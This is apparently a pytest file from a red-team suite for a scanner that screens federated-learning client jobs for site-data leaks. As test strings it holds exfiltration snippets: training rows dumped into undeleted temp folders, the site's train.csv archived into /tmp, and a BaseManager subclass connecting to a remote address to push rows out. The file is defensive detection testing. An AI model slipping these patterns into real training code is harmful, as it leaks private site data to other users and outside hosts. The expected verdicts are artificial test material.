"""Red team 60b: site data leaving by files others read and by other processes (docs/redteam60b-attempts.md).

Holes closed, each accepted (or escalated only as an unvouched use) on main:
- a tempfile folder no one removes (`mkdtemp()`, `TemporaryDirectory(delete=False)`) keeps the site's rows in /tmp
  for the next job of the site's user, as `NamedTemporaryFile(delete=False)` does (red team 59c);
- a file added to an archive opened on the shared folder (`tarfile.open("/tmp/x.tgz", "w").add(src)`,
  `ZipFile("/tmp/x.zip", "w").write(src)`) is copied there: the site's file, or one the job wrote its rows into;
- a job's class derived from a class that takes an address (`class M(BaseManager): pass`) is given it as the base.
"""

from __future__ import annotations

import pytest

import redteam_kit as kit
from conftest import CORPUS, run_cli

SAMPLES = kit.corpus_samples("malicious/redteam60b_*", "jobs/redteam60b_*")
TWINS = kit.corpus_samples("benign/near_redteam60b_*", "jobs/near_redteam60b_*")
EXPECTED = {e["path"]: e["expect"] for e in kit.labelled("redteam60b_")}
SHARED = "file-exfiltration.data-to-shared-folder"
REMOTE = "network.rendezvous-remote"
# older twins that cached the site's rows in a mkdtemp() folder: accepted until this change
MKDTEMP_TWINS = ["benign/near_rt24_mkdtemp_prefix_parquet.py", "benign/near_redteam57a_mkdtemp_cache.py",
                 "benign/near_redteam58c_mkdtemp_in_gettempdir.py"]

ROWS = "import os, tempfile\nimport numpy as np\nimport pandas as pd\nimport torch\nimport nvflare.client as flare\n" \
       "df = pd.read_csv('/data/site/train.csv')\nrows = df.to_numpy()\nnet = torch.nn.Linear(3, 1)\n"
TAR, ZIP, MANAGER = "import tarfile\n", "import zipfile\n", "from multiprocessing.managers import BaseManager\n"
LOOP = "\nflare.init()\nwhile flare.is_running():\n    m = flare.receive()\n    flare.send(m)\n"


def _client(body: str) -> str:
    return ROWS + body + LOOP


def test_samples_are_labelled():
    assert set(SAMPLES) | set(TWINS) == set(EXPECTED)
    assert len(SAMPLES) == 10 and len(TWINS) == 6


@pytest.mark.parametrize("sample", SAMPLES)
def test_attack_is_held(sample):
    report = kit.scan_sample(sample)
    kit.assert_held(report, REMOTE if "manager" in sample else SHARED)
    assert report.decision.value in EXPECTED[sample], kit.findings(report)


@pytest.mark.parametrize("sample", TWINS)
def test_twin_stays_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))


@pytest.mark.parametrize("sample", MKDTEMP_TWINS)
def test_older_mkdtemp_caches_of_rows_escalate(sample):
    kit.assert_held(kit.scan_sample(sample), SHARED)


HELD = {
    "mkdtemp": "np.save(os.path.join(tempfile.mkdtemp(), 'x.npy'), rows)",
    "mkdtemp_named": "d = tempfile.mkdtemp(prefix='fl_')\ndf.to_csv(d + '/rows.csv')\nprint(d)",
    "mkdtemp_in_tmp": "df.to_parquet(os.path.join(tempfile.mkdtemp(dir='/tmp'), 'x.parquet'))",
    "tmpdir_kept": "t = tempfile.TemporaryDirectory(delete=False)\ntorch.save(torch.tensor(rows), t.name + '/x.pt')",
    "tmpdir_kept_by_flag": "keep = False\nt = tempfile.TemporaryDirectory(delete=keep)\n"
                           "np.save(os.path.join(t.name, 'x.npy'), rows)",
    "tar_site_file": TAR + "with tarfile.open('/tmp/b.tgz', 'w:gz') as t:\n    t.add('/data/site/train.csv')",
    "tar_site_file_by_name": TAR + "t = tarfile.open('/tmp/b.tgz', 'w')\nt.add(name='/data/site/train.csv')",
    "zip_site_file": ZIP + "with zipfile.ZipFile('/tmp/b.zip', 'w') as z:\n    z.write('/data/site/train.csv')",
    "zip_rows_written": ZIP + "df.to_csv('rows.csv')\nwith zipfile.ZipFile('/tmp/b.zip', 'w') as z:\n"
                              "    z.write('rows.csv')",
}


@pytest.mark.parametrize("body", HELD.values(), ids=HELD.keys())
def test_rows_left_for_others_are_held(body):
    kit.assert_held(kit.scan_text(_client(body)), SHARED)


@pytest.mark.parametrize("body", [
    MANAGER + "class M(BaseManager):\n    pass\nM.register('q')\nm = M(address=('203.0.113.7', 50000), authkey=b'k')\n"
    "m.connect()\nm.q().put(rows.tolist())",
    MANAGER + "class Base(BaseManager):\n    pass\nclass M(Base):\n    pass\n"
              "m = M(('dash.example.org', 6001))\nm.connect()",
], ids=["subclass", "subclass_of_subclass"])
def test_a_manager_subclass_given_a_remote_address_rejects(body):
    kit.assert_held(kit.scan_text(_client(body)), REMOTE, kit.Decision.REJECT)


TWIN_BODIES = {
    "mkdtemp_model": "d = tempfile.mkdtemp()\ntorch.save(net.state_dict(), os.path.join(d, 'w.pt'))\nprint(d)",
    "tmpdir_with_rows": "with tempfile.TemporaryDirectory() as d:\n    np.save(os.path.join(d, 'x.npy'), rows)",
    "tmpdir_delete_true": "with tempfile.TemporaryDirectory(delete=True) as d:\n"
                          "    df.to_csv(os.path.join(d, 'r.csv'))",
}


@pytest.mark.parametrize("body", TWIN_BODIES.values(), ids=TWIN_BODIES.keys())
def test_twins_stay_accepted(body):
    kit.assert_accepted(kit.scan_text(_client(body)))


@pytest.mark.parametrize("body", [
    TAR + "torch.save(net.state_dict(), 'w.pt')\nwith tarfile.open('/tmp/b.tgz', 'w:gz') as t:\n    t.add('w.pt')",
    ZIP + "np.save('w.npy', net.weight.detach().numpy())\nwith zipfile.ZipFile('/tmp/b.zip', 'w') as z:\n"
    "    z.write('w.npy')",
    TAR + "with tarfile.open('outputs/b.tgz', 'w:gz') as t:\n    t.add('/data/site/train.csv')",
    MANAGER + "class M(BaseManager):\n    pass\nm = M(address=('127.0.0.1', 50000), authkey=b'k')\nm.connect()",
], ids=["tar_model", "zip_weights", "tar_into_workspace", "manager_local"])
def test_archives_of_the_model_and_local_managers_have_no_finding(body):
    # tarfile, zipfile and managers are unvouched (an escalation on main too): what counts is no finding of ours
    report = kit.scan_text(_client(body))
    assert not kit.holds(report, SHARED) and not kit.holds(report, "network.rendezvous-"), kit.findings(report)


def test_cli_escalates_the_mkdtemp_spill():
    out = run_cli("scan", str(CORPUS / "malicious/redteam60b_mkdtemp_rows_printed.py"))
    assert out.returncode != 0 and SHARED in out.stdout, out.stdout + out.stderr
